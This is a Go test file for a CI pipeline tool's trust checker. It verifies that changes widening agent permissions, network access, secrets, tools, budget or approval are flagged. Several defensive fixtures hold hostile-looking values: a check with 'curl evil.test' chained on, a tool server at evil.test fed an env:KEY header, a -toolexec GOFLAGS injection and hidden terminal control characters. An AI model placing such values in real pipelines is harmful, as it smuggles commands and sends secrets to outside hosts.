package workspace

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/reprise-ci/reprise/internal/exit"
	"github.com/reprise-ci/reprise/internal/git"
	"github.com/reprise-ci/reprise/internal/issue"
	"github.com/reprise-ci/reprise/metadata"
	"github.com/reprise-ci/reprise/pipelines"
)

// usual is a pipeline that can be trusted.
func usual() *pipelines.Pipeline {
	closed := pipelines.Step{Agent: "a", Network: pipelines.Network{Closed: true, Allow: []string{"pypi.org"}}}
	return &pipelines.Pipeline{
		Name: "full", Source: "builtin:full", Budget: pipelines.Budget{USD: 5}, Protect: []string{"go.mod"},
		Agents: map[string]pipelines.Agent{"a": {Use: "claude", Env: []string{"TEAM"}}, "own": {Use: "command", Command: []string{"./own.sh"}}},
		Phases: []pipelines.Phase{{
			Name: "code", Approve: "maintain", Access: pipelines.AccessTree, Execute: closed, Review: closed, Revise: closed,
			Checks: []pipelines.Check{{Name: "test", Run: "go test ./...", Network: pipelines.Network{Closed: true}}},
		}},
	}
}

func TestWider(t *testing.T) {
	for name, tt := range map[string]struct {
		change func(*pipelines.Pipeline)
		want   []string
	}{
		"the same": {func(*pipelines.Pipeline) {}, nil},
		"another program does": {func(p *pipelines.Pipeline) {
			p.Agents["a"] = pipelines.Agent{Use: "codex"}
			p.Phases[0].Execute.Model = "m"
		}, nil},
		"less": {func(p *pipelines.Pipeline) {
			p.Phases[0].Checks, p.Budget.USD, p.Phases[0].Execute.Network.Allow = nil, 1, nil
		}, nil},
		"a program of its own": {func(p *pipelines.Pipeline) {
			p.Agents["a"] = pipelines.Agent{Use: "command", Command: []string{"sh", "-c", "x"}}
		}, []string{`an agent is the program "[\"sh\",\"-c\",\"x\"]"`}},
		"a variable": {func(p *pipelines.Pipeline) { p.Agents["b"] = pipelines.Agent{Env: []string{"AWS_SECRET_ACCESS_KEY"}} }, []string{`an agent sees the variable "AWS_SECRET_ACCESS_KEY"`}},
		"a server": {func(p *pipelines.Pipeline) {
			p.Agents["b"] = pipelines.Agent{ToolSet: pipelines.ToolSet{MCP: map[string]pipelines.ToolServer{"x": {URL: "https://evil.test", Headers: map[string]string{"A": "env:KEY"}}}, Args: []string{"--x"}}}
		}, []string{`an agent has the server of tools "{\"url\":\"https://evil.test\",\"headers\":{\"A\":\"env:KEY\"}}"`, `an agent is started with the argument "\"--x\""`}},
		"a check":             {func(p *pipelines.Pipeline) { p.Phases[0].Checks[0].Run = "go test ./...; curl evil.test" }, []string{`a check runs "\"go test ./...; curl evil.test\""`}},
		"a check, on the net": {func(p *pipelines.Pipeline) { p.Phases[0].Checks[0].Network = pipelines.Network{} }, []string{`a check, "\"go test ./...\"", reaches the whole network`}},
		"a check's variable":  {func(p *pipelines.Pipeline) { p.Phases[0].Checks[0].Env = map[string]string{"GOFLAGS": "-toolexec=x"} }, []string{`a check, "\"go test ./...\"", has the variable "\"GOFLAGS=-toolexec=x\""`}},
		"signs in its words":  {func(p *pipelines.Pipeline) { p.Phases[0].Checks[0].Run = "go test ./...\r\x1b[2K\u202e" }, []string{`a check runs "\"go test ./...\\r\\u001b[2K\u202e\""`}},
		"a setup": {func(p *pipelines.Pipeline) {
			p.Setup = []pipelines.Setup{{Check: pipelines.Check{Run: "x", Network: pipelines.Network{Closed: true}}}}
		}, []string{`the setup runs "\"x\""`}},
		"the whole network": {func(p *pipelines.Pipeline) { p.Phases[0].Review.Network = pipelines.Network{} }, []string{`review of phase "code" reaches the whole network`}},
		"another host, a server": {func(p *pipelines.Pipeline) {
			p.Phases[0].Execute.Network = pipelines.Network{Closed: true, Allow: []string{"evil.test"}, Listen: true}
		}, []string{`execute of phase "code" may have servers`, `execute of phase "code" reaches "evil.test"`}},
		"more access":          {func(p *pipelines.Pipeline) { p.Phases[0].Review.Access = pipelines.AccessRun }, []string{`review of phase "code" has access "run"`}},
		"the sandbox":          {func(p *pipelines.Pipeline) { p.Sandbox.Sockets = true }, []string{`the sandbox leaves to programs "{\"sockets\":true}"`}},
		"no protection":        {func(p *pipelines.Pipeline) { p.Protect, p.Open = nil, []string{".github/workflows/*"} }, []string{`agents may ask to change ".github/workflows/*"`, `it does not protect "go.mod"`}},
		"more money":           {func(p *pipelines.Pipeline) { p.Budget.USD = 50 }, []string{"its budget for usd is larger, or there is none"}},
		"money without an end": {func(p *pipelines.Pipeline) { p.Budget = pipelines.Budget{} }, []string{"its budget for usd is larger, or there is none"}},
		"other prices":         {func(p *pipelines.Pipeline) { p.Prices = map[string]pipelines.Price{"m": {}} }, []string{`the model "m" costs "{\"input\":0,\"cached\":0,\"output\":0}"`}},
		"no approval":          {func(p *pipelines.Pipeline) { p.Phases[0].Approve = "" }, []string{`phase "code" is not approved as it would be, by maintain`}},
		"what another agent has": {func(p *pipelines.Pipeline) {
			p.Agents["own"] = pipelines.Agent{Use: "command", Command: []string{"./own.sh"}, Env: []string{"TEAM"}}
		}, []string{`the agent "[\"./own.sh\"]" sees the variable "TEAM"`}},
		"secrets": {func(p *pipelines.Pipeline) { p.Secrets.Allow = []string{"*"} }, []string{`what looks like a secret may stand in "*"`}},
		"fewer tools": {func(p *pipelines.Pipeline) {
			p.Agents["a"] = pipelines.Agent{ToolSet: pipelines.ToolSet{Tools: pipelines.ToolChoice{Allow: []string{"Read"}, Deny: []string{"WebFetch"}}}}
			p.Agents["own"] = p.Agents["a"]
		}, nil},
	} {
		plan := usual()
		tt.change(plan)
		if diff := cmp.Diff(tt.want, Wider(plan, []*pipelines.Pipeline{usual()})); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
		if diff := cmp.Diff([]string(nil), Wider(plan, []*pipelines.Pipeline{usual(), plan})); diff != "" {
			t.Errorf("%s, and it was so before (-want +got):\n%s", name, diff)
		}
	}
}

func TestWiderByTools(t *testing.T) {
	with := func(choices ...pipelines.ToolChoice) *pipelines.Pipeline {
		p := usual()
		p.Agents = map[string]pipelines.Agent{}
		for i, c := range choices {
			p.Agents[string(rune('a'+i))] = pipelines.Agent{Use: "claude", ToolSet: pipelines.ToolSet{Tools: c}}
		}
		return p
	}
	trusted := with(pipelines.ToolChoice{Allow: []string{"Read", "Bash"}, Deny: []string{"files.remove"}}, pipelines.ToolChoice{Deny: []string{"Bash", "WebFetch"}})
	for name, tt := range map[string]struct {
		plan *pipelines.Pipeline
		want []string
	}{
		"the same":          {trusted, nil},
		"all of them":       {with(pipelines.ToolChoice{}), []string{`an agent has more tools, by the choice "{}"`}},
		"one is let go":     {with(pipelines.ToolChoice{Deny: []string{"Bash"}}), []string{`an agent has more tools, by the choice "{\"deny\":[\"Bash\"]}"`}},
		"another one":       {with(pipelines.ToolChoice{Allow: []string{"Read", "Write"}, Deny: []string{"files.remove"}}), []string{`an agent has more tools, by the choice "{\"allow\":[\"Read\",\"Write\"],\"deny\":[\"files.remove\"]}"`}},
		"parts of each":     {with(pipelines.ToolChoice{Allow: []string{"Bash"}, Deny: []string{"WebFetch"}}), []string{`an agent has more tools, by the choice "{\"allow\":[\"Bash\"],\"deny\":[\"WebFetch\"]}"`}},
		"fewer by both":     {with(pipelines.ToolChoice{Allow: []string{"Read"}, Deny: []string{"files.remove", "x"}}), nil},
		"fewer, one by one": {with(pipelines.ToolChoice{Allow: []string{"Read"}, Deny: []string{"WebFetch", "Bash"}}), nil},
	} {
		if diff := cmp.Diff(tt.want, Wider(tt.plan, []*pipelines.Pipeline{trusted})); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

// A step that no longer leaves tools out is wider.
func TestWiderByToolsOfSteps(t *testing.T) {
	with := func(c pipelines.ToolChoice) *pipelines.Pipeline {
		p := usual()
		p.Phases[0].Revise.Tools = c
		return p
	}
	trusted := []*pipelines.Pipeline{with(pipelines.ToolChoice{Deny: []string{"Bash"}})}
	if got := Wider(with(pipelines.ToolChoice{Deny: []string{"Bash", "Write"}}), trusted); got != nil {
		t.Errorf("fewer tools are wider: %v", got)
	}
	if got := Wider(with(pipelines.ToolChoice{}), trusted); len(got) != 1 || !strings.Contains(got[0], "revise of phase") || !strings.Contains(got[0], "has more tools") {
		t.Errorf("it is %q, want the step that has more tools", got)
	}
}

// Of two pipelines that can be trusted, one has to allow all of it: what each allows alone
// was never allowed together.
func TestWiderThanEach(t *testing.T) {
	own, open, both := usual(), usual(), usual()
	for _, p := range []*pipelines.Pipeline{own, both} {
		p.Agents["b"] = pipelines.Agent{Use: "codex", Env: []string{"SECRET"}}
	}
	for _, p := range []*pipelines.Pipeline{open, both} {
		p.Phases[0].Execute.Network = pipelines.Network{}
	}
	if got := Wider(both, []*pipelines.Pipeline{own, open}); len(got) != 1 || !strings.Contains(got[0], "whole network") {
		t.Errorf("it is %q, want what the first does not allow", got)
	}
}

func TestCheck(t *testing.T) {
	wide := usual()
	wide.Agents["b"] = pipelines.Agent{Env: []string{"SECRET"}}
	for name, tt := range map[string]struct {
		plan   *pipelines.Pipeline
		source string
		err    error  // of the definition
		want   string // part of what it says
	}{
		"it does no more":        {usual(), "builtin:full", nil, ""},
		"it does more":           {wide, "builtin:full", nil, "SECRET"},
		"from a file":            {usual(), "own.cue", nil, "own.cue"},
		"none of that name":      {usual(), "builtin:full", exit.Usagef("no pipeline"), "has no pipeline"},
		"one with mistakes":      {usual(), "builtin:full", pipelines.Mistakes{{Message: "x"}}, "has no pipeline"},
		"it cannot be found out": {usual(), "builtin:full", errors.New("git is gone"), "git is gone"},
		"its file only looks so": {func() *pipelines.Pipeline { p := usual(); p.Source = "own.cue"; return p }(), "builtin:full", nil, "default branch does not have"},
	} {
		t.Run(name, func(t *testing.T) {
			root := t.TempDir()
			run := metadata.Run{IssueNumber: "7", BranchName: "reprise/issue-7", Pipeline: metadata.Pipeline{Name: "full", Source: tt.source, Digest: "sha256:1"}}
			define := func(context.Context, *git.Source, issue.Issue, Choice) (Definition, error) {
				return Definition{Plan: usual()}, tt.err
			}
			check := func() error { return CheckTrust(t.Context(), define, &git.Source{}, root, run, tt.plan) }
			if err := check(); (err == nil) != (tt.want == "") || err != nil && !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%v, want %q", err, tt.want)
			}
			if err := errors.Join(MarkTrusted(root, "sha256:1"), MarkTrusted(root, "sha256:1"), MarkTrusted(root, "sha256:2")); err != nil || len(marks(root)) != 2 {
				t.Errorf("%v, %q", err, marks(root))
			}
			if err := check(); err != nil {
				t.Errorf("a pipeline that was worked with: %v", err)
			}
		})
	}
}
